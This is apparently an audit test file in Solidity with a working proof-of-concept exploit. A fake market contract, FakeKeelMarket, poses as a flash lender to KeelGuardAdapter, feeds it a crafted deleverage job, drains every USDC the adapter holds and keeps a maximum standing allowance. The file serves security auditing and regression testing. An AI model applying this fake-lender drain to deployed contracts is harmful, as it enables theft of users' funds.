// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {EngineBase} from "../engine/EngineBase.sol";
import {UniswapV2Fixture} from "../periphery/UniswapV2Fixture.sol";
import {ISwapAdapter} from "../../src/periphery/interfaces/ISwapAdapter.sol";
import {IUniswapV2Factory} from "../../src/periphery/interfaces/IUniswapV2Factory.sol";
import {UniswapV2Adapter} from "../../src/periphery/UniswapV2Adapter.sol";
import {KeelAutomation} from "../../src/periphery/guard/KeelAutomation.sol";
import {KeelGuardAdapter} from "../../src/periphery/guard/KeelGuardAdapter.sol";
import {GuardAdapterBase} from "../../src/periphery/guard/GuardAdapterBase.sol";
import {CollateralInfo} from "../../src/interfaces/IKeelMarket.sol";
import {KeelOracle} from "../../src/oracle/KeelOracle.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";

/// @notice An attacker's "Keel market": it answers the adapter's reads so a Deleverage looks due, and when the adapter
/// asks it for a flash loan it calls the adapter back with a Job of its own making.
contract FakeKeelMarket {
    address public immutable attacker;
    IERC20 public immutable usdc;
    IERC20 public immutable weth;
    address internal immutable real;
    bool internal done;

    constructor(address attacker_, IERC20 usdc_, IERC20 weth_, address real_) {
        (attacker, usdc, weth, real) = (attacker_, usdc_, weth_, real_);
    }

    function asset() external view returns (address) {
        return address(usdc);
    }

    function vaultOwner(uint256) external view returns (address) {
        return attacker;
    }

    function isOperator(address, address) external pure returns (bool) {
        return true;
    }

    function collateralOf(uint256, address) external pure returns (uint256) {
        return 1e18;
    }

    function debtOf(uint256) external view returns (uint256) {
        return done ? 0 : 1_000e6;
    }

    function oracle() external view returns (KeelOracle) {
        return FakeKeelMarket(real).oracle();
    }

    function collateralInfo(address a) external view returns (CollateralInfo memory) {
        return FakeKeelMarket(real).collateralInfo(a);
    }

    function flashFeeBps() external pure returns (uint256) {
        return 0;
    }

    /// @dev Before: HF 1.02 (a Deleverage at 1.1 is due). After: no debt, the same collateral (no "loss").
    function vaultHealth(uint256) external view returns (uint256, uint256, uint256, uint256, uint256) {
        return (3_000e18, 0, 2_550e18, done ? 0 : 2_500e18, done ? type(uint256).max : 1.02e18);
    }

    /// @dev The adapter's flash loan: call it back with a crafted Deleverage of `type(uint128).max` "borrowed" USDC.
    function flashLoan(IERC3156FlashBorrower receiver, address, uint256, bytes calldata) external returns (bool) {
        GuardAdapterBase.Job memory job = GuardAdapterBase.Job(
            GuardAdapterBase.Op.Deleverage, attacker, address(weth), address(usdc), 1e12, 0, 0, abi.encode(this, 1, weth)
        );
        receiver.onFlashLoan(address(receiver), address(usdc), type(uint128).max, 0, abi.encode(job));
        done = true;
        return true;
    }

    /// @dev "Repay": takes every USDC the adapter holds, on the approval the adapter just gave.
    function repay(uint256, uint256) external returns (uint256, uint256) {
        usdc.transferFrom(msg.sender, attacker, usdc.balanceOf(msg.sender));
        return (0, 0);
    }

    /// @dev "Withdraw": a dust of WETH so the adapter's sale succeeds.
    function withdrawCollateral(uint256, address, uint256 amount, address to) external {
        weth.transfer(to, amount);
    }
}

/// @notice Audit 2026-12-01: KeelGuardAdapter takes the market from the rule's position bytes and trusts it as the
/// flash lender. Each `test_poc_` PASSES while the weakness exists.
contract KeelGuardAdapterMarketAudit is EngineBase {
    address internal constant ATTACKER = address(0xBAD);
    KeelAutomation internal guard;
    KeelGuardAdapter internal keel;

    function setUp() public override {
        super.setUp();
        IUniswapV2Factory factory = UniswapV2Fixture.deployFactory();
        UniswapV2Fixture.seed(factory, weth, 1_000e18, usdc, 3_000_000e6);
        guard = new KeelAutomation();
        keel = new KeelGuardAdapter(address(guard), ISwapAdapter(address(new UniswapV2Adapter(factory))));
    }

    /// @notice FINDING 4 (Low): anyone can set a rule on a "market" of their own, become the adapter's flash lender
    /// through KeelAutomation.execute, and feed `onFlashLoan` a Job of their choosing. The adapter then approves the
    /// attacker for any token and amount (`forceApprove(market, amount)` with `amount` from the attacker) and
    /// swaps/sends what it holds. Proves: the attacker takes every USDC the adapter holds (5,000 USDC sent to it by
    /// mistake) and leaves with a standing `type(uint128).max` USDC allowance from the adapter.
    function test_poc_fakeMarket_drainsAdapterBalance_andKeepsStandingApproval() public {
        FakeKeelMarket fake = new FakeKeelMarket(ATTACKER, usdc, weth, address(market));
        weth.mint(address(fake), 1e12);
        usdc.mint(address(keel), 5_000e6); // a stray balance (a user's mistaken transfer, a rounding remainder…)
        bytes memory pos = abi.encode(address(fake), uint256(1), address(weth));
        vm.prank(ATTACKER);
        guard.setRule(keel, pos, KeelAutomation.Kind.Deleverage, KeelAutomation.Params(1.1e18, 1.2e18, 0, 0, 100, 0));
        vm.prank(ATTACKER);
        guard.execute(keel, pos, KeelAutomation.Kind.Deleverage, 0);
        assertGe(usdc.balanceOf(ATTACKER), 5_000e6, "the adapter's USDC went to the attacker");
        assertEq(usdc.balanceOf(address(keel)), 0, "adapter emptied");
        assertGt(usdc.allowance(address(keel), address(fake)), 1e30, "standing allowance from the adapter to the attacker");
    }
}
